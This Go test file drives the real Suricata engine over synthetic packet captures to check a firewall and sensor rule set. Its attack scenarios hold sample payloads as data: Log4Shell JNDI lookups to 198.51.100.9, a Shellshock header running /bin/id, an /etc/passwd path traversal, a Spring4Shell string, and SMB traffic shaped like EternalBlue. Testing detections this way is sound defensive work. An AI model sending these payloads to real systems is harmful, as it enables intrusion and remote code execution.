package network

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"text/tabwriter"
	"time"

	"github.com/google/gopacket/layers"
	"github.com/stretchr/testify/require"

	"ephemos.dev/deploy/components/zones"
	"ephemos.dev/deploy/toolchain"
)

// ranges are those of a VPC.
var ranges = Addresses{
	zones.DMZ: netip.MustParsePrefix("10.0.0.0/18"), zones.Application: netip.MustParsePrefix("10.0.64.0/18"),
	zones.Data: netip.MustParsePrefix("10.0.128.0/18"), zones.Management: netip.MustParsePrefix("10.0.192.0/19"),
	zones.Platform: netip.MustParsePrefix("10.0.224.0/19"),
}

// Hosts in the zones. Each scenario has its own, so that alerts can be told apart.
type hosts struct{ gateway, service, database, server, resolver netip.Addr }

func hostsOf(scenario int) hosts {
	at := func(a, b byte) netip.Addr { return netip.AddrFrom4([4]byte{10, 0, a, b}) }
	n := byte(scenario + 1)
	return hosts{at(1, n), at(70, n), at(130, n), at(200, n), at(230, 2)}
}

// of says whether an address is one that no other scenario has.
func (h hosts) of(address string) bool {
	return address == h.gateway.String() || address == h.service.String()
}

// An engine is the real Suricata.
type engine struct{ root string }

// suricata returns the engine: the root filesystem that an environment variable names, else the one that the toolchain has built.
func suricata(t *testing.T) engine {
	t.Helper()
	root := os.Getenv("EPHEMOS_SURICATA")
	if root == "" {
		// Whoever runs the tests alone need not have built it; `make unit` has, and must not pass over this check.
		missing := t.Skipf
		if os.Getenv("EPHEMOS_REQUIRE_PROGRAMS") != "" {
			missing = t.Fatalf
		}
		built, err := toolchain.Lookup(t.Context(), toolchain.Options{Progress: io.Discard})
		if err != nil {
			missing("EPHEMOS_SURICATA is not set and the toolchain cannot be looked up: %v", err)
		}
		if root, err = built.RootFS("suricata"); err != nil {
			missing("EPHEMOS_SURICATA is not set and the toolchain has not built suricata: %v", err)
		}
	}
	return engine{root}
}

// command runs Suricata with the libraries of its own root filesystem, without entering it.
func (e engine) command(ctx context.Context, t *testing.T, args ...string) (string, error) {
	t.Helper()
	one := func(pattern string) string {
		found, err := filepath.Glob(filepath.Join(e.root, pattern))
		require.NoError(t, err)
		require.NotEmpty(t, found, pattern)
		return found[0]
	}
	args = append([]string{"--library-path", one("usr/lib/*-linux-gnu"), filepath.Join(e.root, "usr/bin/suricata")}, args...)
	out, err := exec.CommandContext(ctx, one("lib*/ld-linux-*.so.*"), args...).CombinedOutput()
	return string(out), err
}

// configuration is what Suricata needs to evaluate rules as a firewall policy in strict order does. Suricata itself sorts rules by
// their action. In the order alert, drop, reject, pass it comes to the same as the order of the text, as far as the order matters
// there: marks are set before they are asked for, and what drops is looked at before what passes.
const configuration = `%%YAML 1.1
---
vars:
  address-groups:
%s  port-groups: {}
default-log-dir: %q
classification-file: %q
reference-config-file: %q
threshold-file: %q
action-order: [%s]
outputs:
  - eve-log:
      enabled: yes
      filetype: regular
      filename: eve.json
      types: [{alert: {metadata: yes}}, {drop: {alerts: yes, flows: all}}]
app-layer:
  protocols:
    tls: {enabled: yes, detection-ports: {dp: 443}}
    http: {enabled: yes}
    ssh: {enabled: yes}
    smb: {enabled: yes, detection-ports: {dp: "139, 445"}}
    dns:
      tcp: {enabled: yes, detection-ports: {dp: 53}}
      udp: {enabled: yes, detection-ports: {dp: 53}}
stream: {midstream: false, inline: auto}
stats: {enabled: no}
`

// An event is a line of Suricata's log.
type event struct {
	Type  string `json:"event_type"`
	From  string `json:"src_ip"`
	To    string `json:"dest_ip"`
	Alert struct {
		SID int `json:"signature_id"`
	} `json:"alert"`
}

// A session is a directory with rules and the configuration for them.
type session struct {
	engine
	t          *testing.T
	dir        string
	rulesFile  string
	configFile string
}

// The orders of actions: that of strict order, and Suricata's own.
const (
	strictOrder = "alert, drop, reject, pass"
	ownOrder    = "pass, drop, reject, alert"
)

func (e engine) session(t *testing.T, order string, set RuleSet, more ...string) session {
	t.Helper()
	s := session{engine: e, t: t, dir: t.TempDir()}
	s.rulesFile, s.configFile = filepath.Join(s.dir, "test.rules"), filepath.Join(s.dir, "suricata.yaml")
	var groups strings.Builder
	variables := set.Variables(ranges)
	for _, name := range slices.Sorted(maps.Keys(variables)) {
		fmt.Fprintf(&groups, "    %s: \"[%s]\"\n", name, strings.Join(variables[name], ","))
	}
	etc := filepath.Join(e.root, "etc/suricata")
	config := fmt.Sprintf(configuration, groups.String(), s.dir, filepath.Join(etc, "classification.config"), filepath.Join(etc, "reference.config"),
		filepath.Join(etc, "threshold.config"), order)
	require.NoError(t, os.WriteFile(s.configFile, []byte(config), 0o600))
	require.NoError(t, os.WriteFile(s.rulesFile, []byte(set.Text()+strings.Join(more, "\n")+"\n"), 0o600))
	return s
}

// validate is suricata -T. What it only warns about is an error too: AWS takes no rule that is in doubt.
func (s session) validate() (string, error) {
	s.t.Helper()
	out, err := s.command(s.t.Context(), s.t, "-T", "-c", s.configFile, "-S", s.rulesFile, "-l", s.dir)
	if err == nil && strings.Contains(out, "Warning: ") {
		err = errors.New("a warning")
	}
	return out, err
}

// read has recorded traffic looked at, and returns the events in their order. inline has it act as a firewall that can drop.
func (s session) read(pcap string, inline bool) []event {
	s.t.Helper()
	logs := filepath.Join(s.dir, "logs")
	require.NoError(s.t, os.RemoveAll(logs))
	require.NoError(s.t, os.Mkdir(logs, 0o700))
	args := []string{"-c", s.configFile, "-S", s.rulesFile, "-l", logs, "-r", pcap, "-k", "all", "--runmode", "single"}
	if inline {
		args = append(args, "--simulate-ips")
	}
	out, err := s.command(s.t.Context(), s.t, args...)
	require.NoError(s.t, err, out)
	text, err := os.ReadFile(filepath.Join(logs, "eve.json"))
	require.NoError(s.t, err)
	var events []event
	for line := range bytes.Lines(text) {
		var e event
		require.NoError(s.t, json.Unmarshal(line, &e))
		events = append(events, e)
	}
	return events
}

// fired returns the identifiers of the scenario's alerts, sorted, each once, and whether something of it was dropped.
func fired(events []event, h hosts) (sids []int, dropped bool) {
	for _, e := range events {
		switch {
		case !h.of(e.From) && !h.of(e.To):
		case e.Type == "drop":
			dropped = true
		case e.Type == "alert":
			sids = append(sids, e.Alert.SID)
		}
	}
	slices.Sort(sids)
	return slices.Compact(sids), dropped
}

// A scenario is traffic with what has to be recognised in it, and nothing else.
type scenario struct {
	name  string
	sends func(*wire, hosts)
	// want are the identifiers that have to fire in the firewall, and more those in a sensor, which goes on looking where the
	// firewall has dropped. What belongs to no connection, the firewall drops before it looks at rules.
	want, more []int
	// reported says that an attack is reported and passes.
	reported bool
	// outside says that the traffic does not go from the first to the second tier: the default action is not for it.
	outside bool
}

const httpAnswer = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"

func request(line, headers, body string) string {
	return fmt.Sprintf("%s HTTP/1.1\r\nHost: order\r\n%sContent-Length: %d\r\n\r\n%s", line, headers, len(body), body)
}

func attacks(t *testing.T) []scenario {
	toService := func(speeches ...speech) func(*wire, hosts) {
		return func(w *wire, h hosts) { w.connection(h.gateway, h.service, 8443, speeches...) }
	}
	overHTTP := func(text string) func(*wire, hosts) { return toService(says(text), answers(httpAnswer)) }
	// plaintext is what HTTP on a port for mutual TLS sets off, besides what is in it.
	plaintext := func(more ...int) []int { return append(more, 1000003, sidClientGreeting, sidNotTLS) }
	serverToo := []int{sidServerGreeting}
	knocks := func(ports ...int) func(*wire, hosts) {
		return func(w *wire, h hosts) {
			for _, p := range ports {
				w.knock(h.gateway, h.service, p, syn)
			}
		}
	}
	neither := []int{sidClientGreeting, sidServerGreeting}
	modern := mutualTLS(t, tls.VersionTLS13)
	longName := strings.Repeat(strings.Repeat("a", 40)+".", 4) + "example.org"
	return []scenario{
		{name: "TLS 1.0", sends: toService(mutualTLS(t, tls.VersionTLS10)...), want: []int{1000001}, more: []int{1000002}},
		{name: "TLS 1.1", sends: toService(mutualTLS(t, tls.VersionTLS11)...), want: []int{1000001}, more: []int{1000002}},
		{name: "TLS 1.0 in segments of 30 bytes", sends: toService(cut(mutualTLS(t, tls.VersionTLS10), 30)...), want: []int{1000001}, more: []int{1000002}},
		{name: "TLS 1.2 answered with 1.0", sends: toService(downgrade(t)...), want: []int{1000002}},
		{name: "plaintext HTTP", sends: overHTTP(request("GET /orders", "", "")), want: plaintext(sidServerGreeting)},
		{name: "SSH", sends: toService(answers("SSH-2.0-OpenSSH_9.2\r\n"), says("SSH-2.0-OpenSSH_9.2\r\n")),
			want: append(neither, 1000004, sidNotTLS)},
		{name: "reverse shell", sends: toService(answers("$ "), says("id\n"), answers("uid=0(root)\n$ ")), want: neither},
		{name: "unknown protocol", sends: toService(says("\x01\x02\x03\x04"), answers("what?")), want: neither},
		{name: "shell behind a greeting", sends: toService(modern[0], answers("$ "), says("id\n"), answers("uid=0(root)\n")), want: serverToo},
		{name: "begins like TLS", sends: toService(says("\x16\x03\xff\xff"+strings.Repeat("neither TLS nor known ", 300)), answers("what?"), says("x"), answers("y")),
			want: neither},
		{name: "SMB", sends: knocks(445, 139), want: []int{1000010, sidTCP}},
		{name: "RDP", sends: knocks(3389), want: []int{1000011, sidTCP}},
		{name: "telnet", sends: knocks(23), want: []int{1000012, sidTCP}},
		{name: "data stores", sends: knocks(5432, 6379, 4222), want: []int{1000013, sidTCP}},
		{name: "cluster control", sends: knocks(10250, 2379), want: []int{1000014, sidTCP}},
		{name: "EternalBlue", sends: func(w *wire, h hosts) {
			w.connection(h.gateway, h.service, 445, says(smb(0x72, []byte("\x00\x0c\x00\x02NT LM 0.12\x00"))), answers(smb(0x72, make([]byte, 40))),
				says(smb(0xa0, make([]byte, 1000))), answers(smb(0xa0, make([]byte, 20))),
				says(smb(0x33, []byte(strings.Repeat("\x41", 4096)))), answers(smb(0x33, make([]byte, 20))))
		}, want: []int{1000010, 1000020, 1000021, sidTCP}},
		{name: "DoublePulsar", sends: func(w *wire, h hosts) {
			words := make([]byte, 29)
			words[0], words[27] = 15, 1
			w.connection(h.gateway, h.service, 445, says(smb(0x32, append(words, 0x0e, 0x00, 0, 0, 0, 0))), answers(smb(0x32, make([]byte, 20))))
		}, want: []int{1000010, 1000022, sidTCP}},
		{name: "Log4Shell in the address", sends: overHTTP(request("GET /?q=$%7Bjndi:ldap://198.51.100.9/a%7D", "", "")), want: plaintext(1000030), more: serverToo},
		{name: "Log4Shell in a header", sends: overHTTP(request("GET /", "User-Agent: ${JNDI:ldap://198.51.100.9/a}\r\n", "")), want: plaintext(1000031), more: serverToo},
		{name: "Log4Shell in a body", sends: overHTTP(request("POST /", "Content-Type: text/plain\r\n", "${jndi:rmi://198.51.100.9/a}")), want: plaintext(1000032), more: serverToo},
		{name: "Log4Shell, hidden", sends: overHTTP(request("GET /", "X-Api: ${${lower:j}ndi:ldap://198.51.100.9/a}\r\n", "")), want: plaintext(1000033), more: serverToo},
		{name: "Shellshock", sends: overHTTP(request("GET /cgi", "User-Agent: () { :; }; /bin/id\r\n", "")), want: plaintext(1000034), more: serverToo},
		{name: "path traversal", sends: overHTTP(request("GET /static/../../../../etc/passwd", "", "")), want: plaintext(1000035), more: serverToo},
		{name: "Spring4Shell", sends: overHTTP(request("POST /", "Content-Type: application/x-www-form-urlencoded\r\n",
			"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")), want: plaintext(1000036), more: serverToo},
		{name: "NULL scan", sends: func(w *wire, h hosts) { w.knock(h.gateway, h.service, 8443, func(*layers.TCP) {}) }, want: []int{1000040}},
		{name: "XMAS scan", sends: func(w *wire, h hosts) {
			w.knock(h.gateway, h.service, 8443, func(s *layers.TCP) { s.FIN, s.PSH, s.URG = true, true, true })
		}, more: []int{1000041}},
		{name: "SYN and FIN", sends: func(w *wire, h hosts) {
			w.knock(h.gateway, h.service, 8443, func(s *layers.TCP) { s.SYN, s.FIN = true, true })
		}, more: []int{1000042}},
		{name: "DNS tunnel by names", sends: func(w *wire, h hosts) { w.query(h.service, h.resolver, longName) }, want: []int{1000050}, reported: true},
		{name: "DNS tunnel by size", sends: func(w *wire, h hosts) { w.datagram(h.service, h.resolver, 53, bytes.Repeat([]byte{0xa5}, 400)) }, want: []int{1000051}, reported: true},
		{name: "port scan", sends: knocks(81, 82, 83, 84, 85, 86, 87, 88, 89, 90, 91, 92), want: []int{sidTCP}, more: []int{1000060}},
		{name: "slow knocking", sends: func(w *wire, h hosts) {
			for p := range 12 {
				w.knock(h.gateway, h.service, 81+p, syn)
				w.pause(10 * time.Second)
			}
		}, want: []int{sidTCP}},
		{name: "ping sweep", sends: func(w *wire, h hosts) {
			for host := range 12 {
				w.icmp(h.gateway, netip.AddrFrom4([4]byte{10, 0, 71, byte(1 + host)}), 8, 0, []byte("abcdefgh"))
			}
		}, want: []int{sidICMPHigh}, more: []int{1000061}},
		{name: "unasked echo reply", sends: func(w *wire, h hosts) { w.icmp(h.gateway, h.service, 0, 0, []byte("abcdefgh")) }, want: []int{sidICMPLow}},
		{name: "UDP", sends: func(w *wire, h hosts) { w.datagram(h.gateway, h.service, 161, []byte("public")) }, want: []int{sidUDP}},
		{name: "back to the gateway", sends: func(w *wire, h hosts) { w.connection(h.service, h.gateway, 8443, modern...) }, want: []int{sidBackTCP}},
		{name: "back to the gateway, UDP", sends: func(w *wire, h hosts) { w.datagram(h.service, h.gateway, 514, []byte("<13>x")) }, want: []int{sidBackUDP}},
		{name: "past the application to the data", sends: func(w *wire, h hosts) { w.connection(h.gateway, h.database, 5432, modern...) },
			want: []int{sidZone + 3}},
		{name: "to the identity server", sends: func(w *wire, h hosts) { w.connection(h.gateway, h.server, 8081, modern...) },
			want: []int{sidZone + 4}},
	}
}

// benign is what the deployment does all day.
func benign(t *testing.T) []scenario {
	modern := mutualTLS(t, tls.VersionTLS13)
	require.Greater(t, len(modern[0].data), 1400, "the greeting takes more than one segment, as those with post-quantum keys do")
	toService := func(speeches ...speech) func(*wire, hosts) {
		return func(w *wire, h hosts) { w.connection(h.gateway, h.service, 8443, speeches...) }
	}
	record := append([]byte{0x17, 0x03, 0x03, 0x40, 0x00}, bytes.Repeat([]byte{0x5a}, 0x4000)...)
	return []scenario{
		{name: "mutual TLS 1.3", sends: toService(modern...)},
		{name: "mutual TLS 1.2", sends: toService(mutualTLS(t, tls.VersionTLS12)...)},
		{name: "TLS 1.3 in segments of 50 bytes", sends: toService(cut(modern, 50)...)},
		{name: "a hundred connections a minute", sends: func(w *wire, h hosts) {
			for range 100 {
				w.connection(h.gateway, h.service, 8443, modern...)
				w.pause(600 * time.Millisecond)
			}
		}},
		{name: "an answer of 330 kB", sends: toService(append(slices.Clone(modern), answers(strings.Repeat(string(record), 20)))...)},
		{name: "a connection that is refused", sends: func(w *wire, h hosts) {
			w.knock(h.gateway, h.service, 8443, syn)
			w.segment(h.service, h.gateway, &layers.TCP{SrcPort: 8443, DstPort: layers.TCPPort(w.port), Ack: 1001, RST: true, ACK: true}, nil)
		}},
		{name: "fragmentation needed", sends: func(w *wire, h hosts) { w.icmp(h.service, h.gateway, 3, 4, bytes.Repeat([]byte{0x45}, 28)) }},
		{name: "DNS", outside: true, sends: func(w *wire, h hosts) {
			w.query(h.gateway, h.resolver, "payment.services.svc.cluster.local")
			w.query(h.service, h.resolver, "user.services.svc.cluster.local")
		}},
	}
}

// TestSuricataAccepts passes the rules for both targets through suricata -T.
func TestSuricataAccepts(t *testing.T) {
	e := suricata(t)
	for _, target := range []Target{NetworkFirewall, Sensor} {
		t.Run(string(target), func(t *testing.T) {
			out, err := e.session(t, strictOrder, rules(t, target)).validate()
			require.NoError(t, err, out)
		})
	}
}

// TestSuricataRefuses holds that the validation notices mistakes, or TestSuricataAccepts would show nothing.
func TestSuricataRefuses(t *testing.T) {
	e := suricata(t)
	for _, c := range []struct{ name, old, new string }{
		{"keyword", "app-layer-protocol", "app-protocol"}, {"variable", "$APPLICATION", "$APPLICATIONS"}, {"class", "policy-violation", "violation"},
		{"address", "-> $APPLICATION", "$APPLICATION"},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := e.session(t, strictOrder, rules(t, NetworkFirewall))
			text, err := os.ReadFile(s.rulesFile)
			require.NoError(t, err)
			require.Contains(t, string(text), c.old)
			require.NoError(t, os.WriteFile(s.rulesFile, []byte(strings.Replace(string(text), c.old, c.new, 1)), 0o600))
			out, err := s.validate()
			require.Error(t, err, out)
		})
	}
}

func rules(t testing.TB, target Target) RuleSet {
	t.Helper()
	set, err := Rules(zones.Standard(zones.Options{}), target)
	require.NoError(t, err)
	return set
}

// TestRecordedAttacks has the real engine look at recorded attacks and at what the deployment does all day. Each attack sets off
// exactly the identifiers that it should, and is dropped where a rule says so; the rest sets off none, and passes. Each signature and
// denial is set off by something.
func TestRecordedAttacks(t *testing.T) {
	e := suricata(t)
	firewall, sensor := rules(t, NetworkFirewall), rules(t, Sensor)
	all := attacks(t)
	first := len(all)
	all = append(all, benign(t)...)
	w := newWire(t)
	packets := make([]int, len(all))
	for i, s := range all {
		before := len(w.frames)
		s.sends(w, hostsOf(i))
		packets[i] = len(w.frames) - before
	}
	pcap := filepath.Join(t.TempDir(), "traffic.pcap")
	w.write(pcap)
	inline := e.session(t, strictOrder, firewall).read(pcap, true)
	seen := e.session(t, strictOrder, sensor).read(pcap, false)
	// The policy's default action, for packets that no rule passes.
	passing := firewall
	passing.Rules = slices.DeleteFunc(slices.Clone(firewall.Rules), func(r Rule) bool { return r.Action != "pass" })
	left := e.session(t, ownOrder, passing, `alert ip any any -> any any (msg:"default action"; sid:1; rev:1;)`).read(pcap, false)

	proven := map[int]bool{}
	var table strings.Builder
	out := tabwriter.NewWriter(&table, 0, 0, 2, ' ', 0)
	fmt.Fprintln(out, "TRAFFIC\tPACKETS\tFIREWALL\tDROPPED\tSENSOR")
	for i, s := range all {
		hits, dropped := fired(inline, hostsOf(i))
		noticed, _ := fired(seen, hostsOf(i))
		unmatched, _ := fired(left, hostsOf(i))
		kind := map[bool]string{true: "attack: ", false: "benign: "}[i < first]
		fmt.Fprintf(out, "%s%s\t%d\t%s\t%t\t%s\n", kind, s.name, packets[i], numbers(hits), dropped, numbers(noticed))
		for _, sid := range append(noticed, hits...) {
			proven[sid] = true
		}
		t.Run(s.name, func(t *testing.T) {
			require.ElementsMatch(t, s.want, hits, "firewall")
			require.ElementsMatch(t, slices.Concat(s.want, s.more), noticed, "sensor")
			require.Equal(t, i < first && !s.reported, dropped)
			if i >= first && !s.outside {
				require.Empty(t, unmatched, "a rule passes each packet, and none is left to the default action, which drops")
			}
		})
	}
	require.NoError(t, out.Flush())
	t.Logf("%d rules for the firewall, %d for a sensor\n%s", len(firewall.Rules), len(sensor.Rules), table.String())
	for _, set := range []RuleSet{firewall, sensor} {
		for _, r := range set.Rules {
			if r.Action != "pass" && r.SID != sidMarkClient && r.SID != sidMarkServer {
				require.True(t, proven[r.SID], "nothing sets off %d: %s", r.SID, r.Message)
			}
		}
	}
}

func numbers(sids []int) string {
	if len(sids) == 0 {
		return "-"
	}
	return strings.Trim(fmt.Sprint(sids), "[]")
}
